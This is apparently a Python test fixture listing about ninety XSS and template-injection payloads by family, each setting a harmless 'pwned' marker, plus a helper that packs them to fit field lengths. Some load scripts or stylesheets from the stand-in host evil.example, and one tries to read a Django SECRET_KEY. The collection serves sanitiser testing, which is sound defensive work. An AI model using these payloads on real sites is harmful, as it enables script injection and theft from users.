"""Words that want to become code: by family, written for these tests, each calling `pwned` where it succeeds.

A payload succeeds when a page that shows it has an element, a handler or a script address that is none of ours.
"""

from __future__ import annotations

from collections.abc import Mapping

FAMILIES: Mapping[str, tuple[str, ...]] = {
    "tags": (
        "<script>pwned=1</script>",
        "<ScRiPt>pwned=2</sCrIpT>",
        "<script src=//evil.example/pwned.js></script>",
        "<scr<script>ipt>pwned=3</scr</script>ipt>",
        "<script\n>pwned=4</script\n>",
        "<iframe src=javascript:pwned=5></iframe>",
        '<iframe srcdoc="<script>parent.pwned=6</script>"></iframe>',
        "<object data=javascript:pwned=7></object>",
        "<embed src=//evil.example/pwned.swf>",
        "<base href=//evil.example/pwned/>",
        '<meta http-equiv=refresh content="0;url=javascript:pwned=8">',
        "<link rel=stylesheet href=//evil.example/pwned.css>",
        "<form action=//evil.example/pwned><button>Go</button></form>",
    ),
    "attributes": (
        '" onfocus=pwned=9 autofocus x="',
        "' onfocus=pwned=10 autofocus x='",
        "x onmouseover=pwned=11 ",
        '"><b id=pwned12>',
        "'><b id=pwned13>",
        '" style=x:expression(pwned=14) x="',
        '" formaction=javascript:pwned=15 x="',
        "--><b id=pwned16><!--",
    ),
    "handlers": (
        "<img src=x onerror=pwned=17>",
        "<img src=x oNeRrOr='pwned=18'>",
        "<img/src/onerror=pwned=19>",
        "<body onload=pwned=20>",
        "<details open ontoggle=pwned=21>x</details>",
        "<input autofocus onfocus=pwned=22>",
        "<video><source onerror=pwned=23></video>",
        "<audio src=x onerror=pwned=24></audio>",
        "<marquee onstart=pwned=25>x</marquee>",
        "<xss onanimationstart=pwned=26 class=x>",
        "<select autofocus onfocus=pwned=27>",
        "<img src=x onerror\n=\npwned=28>",
    ),
    "addresses": (
        "javascript:pwned=29",
        "JaVaScRiPt:pwned=30",
        "java\tscript:pwned=31",
        " javascript:pwned=32",
        "\x01javascript:pwned=33",
        "javascript://%0apwned=34",
        "vbscript:pwned=35",
        "data:text/html,<script>pwned=36</script>",
        "data:text/html;base64,PHNjcmlwdD5wd25lZD0zNzwvc2NyaXB0Pg==",
        '<a href="javascript:pwned=38">x</a>',
        '<a href="java&#115;cript:pwned=39">x</a>',
        '<a href="&#x6A;avascript&colon;pwned=40">x</a>',
        '<a href="data:text/html,<script>pwned=41</script>">x</a>',
        "//evil.example/pwned",
    ),
    "drawings": (
        "<svg onload=pwned=42>",
        "<svg/onload=pwned=43//",
        "<svg><script>pwned=44</script></svg>",
        "<svg><a xlink:href=javascript:pwned=45><text y=9>x</text></a></svg>",
        "<svg><animate onbegin=pwned=46 attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:pwned=47>",
        "<svg><use href=data:image/svg+xml,<svg id=x onload=pwned=48> /></svg>",
        "<svg><foreignObject><iframe onload=pwned=49></foreignObject></svg>",
        "<math href=javascript:pwned=50>x</math>",
        '<math><maction actiontype=statusline xlink:href="javascript:pwned=51">x</maction></math>',
    ),
    "mutations": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=52&gt;">',
        '<svg></p><style><a id="</style><img src=1 onerror=pwned=53>">',
        '<noscript><p title="</noscript><img src=x onerror=pwned=54>">',
        "<template><script>pwned=55</script></template>",
        '<title><img title="</title><img src=x onerror=pwned=56>">',
        '<textarea><img title="</textarea><img src=x onerror=pwned=57>">',
        "</textarea><img src=x onerror=pwned=58>",
        "</select><img src=x onerror=pwned=59>",
        "<![CDATA[<img src=x onerror=pwned=60>]]>",
        "<!--><img src=x onerror=pwned=61>-->",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned=62>",
    ),
    "templates": (
        "{{ 7|add:7 }}{% debug %}{{ settings.SECRET_KEY }}",
        "${pwned=63}",
        "{{constructor.constructor('pwned=64')()}}",
        "#{pwned=65}",
        "<%= pwned=66 %>",
        "{%comment%}<script>pwned=67</script>",
        "%(pwned)s {pwned} {0.__class__}",
    ),
    "unicode": (
        "\uff1cscript\uff1epwned=68\uff1c/script\uff1e",
        "\u2028<img src=x onerror=pwned=69>\u2029",
        "<img src=x onerror=\u2000pwned=70>",
        "\u202e<script>pwned=71</script>",
        "<\u0131mg src=x onerror=pwned=72>",
        "\ufeff<svg onload=pwned=73>",
        "%3Cscript%3Epwned=74%3C/script%3E",
        "&lt;script&gt;pwned=75&lt;/script&gt;",
        "&amp;lt;img src=x onerror=pwned=76&amp;gt;",
        "\\u003cscript\\u003epwned=77\\u003c/script\\u003e",
    ),
    "styles": (
        "<style>@import '//evil.example/pwned.css';</style>",
        "<b style=background:url(//evil.example/pwned)>x</b>",
        '<b style="width:expression(pwned=78)">x</b>',
        "</style><img src=x onerror=pwned=79>",
        "#fff;background:url(javascript:pwned=80)",
    ),
    "data for machines": (
        "</script><script>pwned=81</script>",
        '"}</script><img src=x onerror=pwned=82>',
        '","@type":"Product","url":"javascript:pwned=83',
        "<!--<script>pwned=84",
        '\\"}</script><svg onload=pwned=85>',
        "]]></content><script xmlns='http://www.w3.org/1999/xhtml'>pwned=86</script>",
        "*/pwned=87//</script>",
    ),
    "markdown": (
        "[x](javascript:pwned=88)",
        '![x](x"onerror="pwned=89)',
        "[x]: javascript:pwned=90",
        "<javascript:pwned=91>",
        "`</code><script>pwned=92</script>`",
        '[x](https://evil.example/"onmouseover="pwned=93)',
    ),
}
PAYLOADS: tuple[str, ...] = tuple(payload for family in FAMILIES.values() for payload in family)
# What a narrow column can hold.
SHORT: tuple[str, ...] = ("<b id=pwned>", '"><i x=pwned', "<svg onload=pwned()>", "'onx=pwned '", "<xss>")
# The dozen that is opened in a real browser: one of each way to get out.
WORST: tuple[str, ...] = (
    "<script>pwned=1</script>",
    "<img src=x onerror=pwned=17>",
    '" onfocus=pwned=9 autofocus x="',
    "' onfocus=pwned=10 autofocus x='",
    "<svg onload=pwned=42>",
    "</script><script>pwned=81</script>",
    "</textarea><img src=x onerror=pwned=58>",
    "<details open ontoggle=pwned=21>x</details>",
    '<iframe srcdoc="<script>parent.pwned=6</script>"></iframe>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=52&gt;">',
    "<!--<script>pwned=84",
    '<a href="javascript:pwned=38">x</a>',
)


def packed(length: int | None, start: int) -> str:
    """As many payloads as so many characters hold, from this number on; every payload's turn comes with some start."""
    turned = PAYLOADS[start % len(PAYLOADS) :] + PAYLOADS[: start % len(PAYLOADS)]
    if length is None:
        return " ".join(turned)
    text = ""
    for payload in turned:
        longer = f"{text} {payload}" if text else payload
        if len(longer) > length:
            break
        text = longer
    return text or next((short for short in SHORT if len(short) <= length), "<xss>"[:length])
